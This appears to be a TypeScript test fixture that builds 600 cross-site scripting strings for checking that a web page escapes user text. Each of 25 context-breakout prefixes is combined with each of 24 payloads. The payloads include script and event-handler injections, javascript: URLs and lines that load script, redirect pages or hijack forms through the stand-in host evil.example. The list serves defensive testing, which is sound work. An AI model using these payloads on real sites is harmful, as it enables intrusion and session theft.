/** Prefixes that would end the context of a text. */
const breakouts = [
  "",
  '">',
  "'>",
  "-->",
  "*/",
  "</script>",
  "</style>",
  "</textarea>",
  "</title>",
  "</option></select>",
  "</td></tr></table>",
  "`}",
  "{{",
  "${",
  "]]>",
  '\\"',
  "\u2028",
  "\u2029",
  "\u202e",
  "&quot;&gt;",
  "\u{1f4e6}",
  "<!--",
  "+ADw-",
  "%22%3E",
  "=",
];

/** Payloads; each one shows a dialog or a report if it executes. */
const payloads = [
  "<script>alert(1)</script>",
  "<script src=//evil.example/a.js></script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  '" onfocus="alert(1)" autofocus="',
  "' onmouseover='alert(1)",
  "javascript:alert(1)",
  "java\u200bscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=//evil.example>x</a>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<form action=//evil.example><button>Search</button>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;//evil.example>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<style>*{background:url(//evil.example)}</style>",
  "constructor.constructor('alert(1)')()}}",
  "alert(1)}`//",
  ";alert(1);//",
  "<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>",
];

/**
 * 600 texts that would harm a page that does not treat them as text: every breakout before every
 * payload. None of them is an email address, a date, or a number without a symbol.
 */
export const hostileTexts: readonly string[] = breakouts.flatMap((breakout) =>
  payloads.map((payload) => breakout + payload),
);

/**
 * One of 24 parts of them, which contains every breakout and every payload.
 * @param number which part, from 0; it goes round
 */
export const partOfHostileTexts = (number: number): readonly string[] =>
  hostileTexts.filter((_, index) => {
    const breakout = Math.floor(index / payloads.length);
    return (breakout + index) % payloads.length === number % payloads.length;
  });

/**
 * Texts that a form cannot send, or that HTML cannot contain unchanged, and how a page shows them.
 */
export const unusualTexts: readonly (readonly [text: string, shown: string])[] =
  [
    ["<b>\0</b>", "<b></b>"],
    // A line break stays where a text may have several lines (`cellOf`).
    ["<i>\r\n</i>", "<i> </i>"],
    ["\ud800<script>alert(1)</script>", "\ufffd<script>alert(1)</script>"],
  ];
